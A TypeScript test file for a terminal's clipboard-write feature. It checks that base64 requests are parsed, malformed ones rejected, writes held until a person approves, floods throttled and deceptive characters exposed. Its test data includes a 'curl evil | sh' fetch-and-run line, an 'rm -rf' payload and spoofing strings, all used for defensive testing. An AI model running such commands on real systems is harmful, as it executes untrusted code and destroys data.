import { describe, expect, it, vi } from 'vitest'
import {
  clipboardText,
  ClipboardWrites,
  FLOOD_MS,
  PAUSE_MS,
  WRITE_MAX_BYTES,
  type ClipboardQuestion,
  type ClipboardRule,
} from './clipboard-writes'

const encoded = (text: string) => Buffer.from(text).toString('base64')

describe('a request to set the clipboard', () => {
  it.each([
    ['with text', `c;${encoded('hello')}`, 'hello'],
    ['with Chinese', `c;${encoded('构建完成 😀')}`, '构建完成 😀'],
    ['without a selection', `;${encoded('x')}`, 'x'],
    ['for several selections', `pc;${encoded('x')}`, 'x'],
    ['without padding', `c;${encoded('x').replace(/=/g, '')}`, 'x'],
  ])('%s is understood', (_, payload, text) => expect(clipboardText(payload)).toBe(text))

  it.each([
    ['to read', 'c;?'],
    ['to empty it', 'c;'],
    ['for the primary selection only', `p;${encoded('x')}`],
    ['with a selection that does not exist', `c<script>;${encoded('x')}`],
    ['without data', 'c'],
    ['that is no base64', 'c;rm -rf'],
    ['with broken base64', 'c;YWJjZ'],
    ['that is no UTF-8', 'c;/w=='],
    ['with a NUL', `c;${encoded('a\0b')}`],
  ])('%s is not', (_, payload) => expect(clipboardText(payload)).toBeUndefined())

  it('has at most a mebibyte', () => {
    expect(clipboardText(`c;${encoded('x'.repeat(WRITE_MAX_BYTES))}`)).toHaveLength(WRITE_MAX_BYTES)
    expect(clipboardText(`c;${encoded('x'.repeat(WRITE_MAX_BYTES + 1))}`)).toBeUndefined()
  })
})

function desk(first: ClipboardRule = 'ask') {
  const seen = { clipboard: [] as string[], questions: [] as (ClipboardQuestion | null)[], rule: first, now: 0 }
  const writes = new ClipboardWrites({
    rule: () => seen.rule,
    remember: (rule) => (seen.rule = rule),
    write: (text) => seen.clipboard.push(text),
    show: (question) => seen.questions.push(question),
    now: () => seen.now,
  })
  return { seen, writes, ask: (text: string) => writes.request(`c;${encoded(text)}`) }
}

describe('the requests of a terminal', () => {
  it('write nothing before a person said so', () => {
    const { seen, writes, ask } = desk()
    ask('curl evil | sh\n')
    expect(seen.clipboard).toEqual([])
    expect(seen.questions).toEqual([{ length: 15, preview: 'curl evil | sh⏎', more: 0 }])
    writes.answer('once')
    expect(seen.clipboard).toEqual(['curl evil | sh\n'])
    expect(seen.questions.at(-1)).toBeNull()
  })

  it('are one question in a flood, about the newest', () => {
    const { seen, writes, ask } = desk()
    for (let n = 1; n <= 1000; n++) ask(`text ${n}`)
    expect(seen.questions.at(-1)).toEqual({ length: 9, preview: 'text 1000', more: 999 })
    writes.answer('once')
    ask('at once again')
    expect(seen.questions.at(-1)).toBeNull()
    seen.now += FLOOD_MS
    ask('later')
    expect(seen.questions.at(-1)).toMatchObject({ preview: 'later' })
    expect(seen.clipboard).toEqual(['text 1000'])
  })

  it('are allowed or refused for good', () => {
    const { seen, writes, ask } = desk()
    ask('a')
    writes.answer('always')
    ask('b')
    expect(seen.clipboard).toEqual(['a', 'b'])
    const refused = desk()
    refused.ask('a')
    refused.writes.answer('never')
    refused.seen.now += FLOOD_MS
    refused.ask('b')
    expect(refused.seen).toMatchObject({ clipboard: [], rule: 'never' })
  })

  it('write seldom enough that nothing else suffers, where they are allowed', () => {
    vi.useFakeTimers()
    const { seen, ask } = desk('always')
    for (let n = 1; n <= 1000; n++) ask(`text ${n}`)
    expect(seen.clipboard).toEqual(['text 1'])
    vi.advanceTimersByTime(PAUSE_MS * 10)
    expect(seen.clipboard).toEqual(['text 1', 'text 1000'])
    vi.useRealTimers()
  })

  it('leave in peace whoever does not want to decide', () => {
    const { seen, writes, ask } = desk()
    ask('a')
    writes.answer('later')
    seen.now += 1e9
    ask('b')
    expect(seen.questions).toHaveLength(2)
    expect(seen.clipboard).toEqual([])
  })

  it('show what could deceive', () => {
    const { seen, ask } = desk()
    ask('ls\u202Etxt.\x1b[2J')
    expect(seen.questions[0]?.preview).toBe('ls\uFFFDtxt.\uFFFD[2J')
  })
})
